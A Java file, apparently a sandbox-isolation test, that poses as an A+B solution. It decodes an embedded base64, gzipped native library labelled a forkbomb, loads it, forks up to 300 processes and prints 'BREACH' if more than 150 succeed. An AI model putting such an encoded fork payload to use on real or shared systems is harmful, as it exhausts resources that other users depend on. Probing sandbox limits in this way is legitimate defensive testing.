import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.Scanner;
import java.util.zip.GZIPInputStream;

public class Main {
    /** forkbomb.so for Linux on x86-64, made from forkbomb.c.txt beside this file. */
    static final String LIBRARY =
            "H4sIAAAAAAACA6t39XFjYmRkgAFmBjsGBI+BwQFGCyCLWTCwAkkOBnawWlYG3CCACZVmgJoD0scGEueHysuj0hsYUGmYPiYS"
                    + "9XFA6cCnJSlsDMQDmHeDgPpYSLCPEYlmQuITAiB1QgwsDJuhGqbDJLwSyxLjfRMz8+LT8ouyjQ0MGBzDHcMcQx1DQoN36wBV"
                    + "O+4BKXPcawkkfXprVF447lMGMl8LerS+5Z9/gH/bAUfGI82vGUsCHHeBVe4AkztBJFjAp/OFR+d1j85r/KwenUc9Wg+UHvU4"
                    + "7qLyAuR8EOMDRNEHn87//Kw7bECindf5WV/Pd+l8EB3rGOMY6xjnGH+YYRSMglEwCkbBKBgFo2AUjIJRMApGFGCB0hHQfhys"
                    + "b7wAyof1QQugfC4oXxhKc0NpCXo5WK84o7ikqCQxiUEvI7E4g0EvpTKvuDIXQpcUMeiVpFaUMOilZsSnFSXmpoLFE3Mzk6lk"
                    + "PTc0jJjQwg1GizAg+v3I/XlYOAtCzWBCC1cYbQAf14D0sTnQwlcSKseEFk8wWhhLPx0ZKCKNZYAArP+O0Y/HoV8daawA63gJ"
                    + "GuBA4xtC7WZmQBuf4Ecdl2BG0y+A5B5mPAMgVgTcDwDAZhclQBIAAA==";

    static native int fork300();

    public static void main(String[] args) throws Exception {
        Scanner in = new Scanner(System.in);
        int a = in.nextInt();
        int b = in.nextInt();
        String breach = null;
        try {
            byte[] packed = Base64.getDecoder().decode(LIBRARY);
            Path library = Path.of("native.so").toAbsolutePath();
            Files.write(library, new GZIPInputStream(new ByteArrayInputStream(packed)).readAllBytes());
            System.load(library.toString());
            int forked = fork300();
            if (forked > 150) {
                breach = "forked " + forked + " processes";
            }
        } catch (IOException | UnsatisfiedLinkError denied) {
            System.err.println(denied);
        }
        System.out.println(breach == null ? String.valueOf(a + b) : "BREACH: " + breach);
    }
}
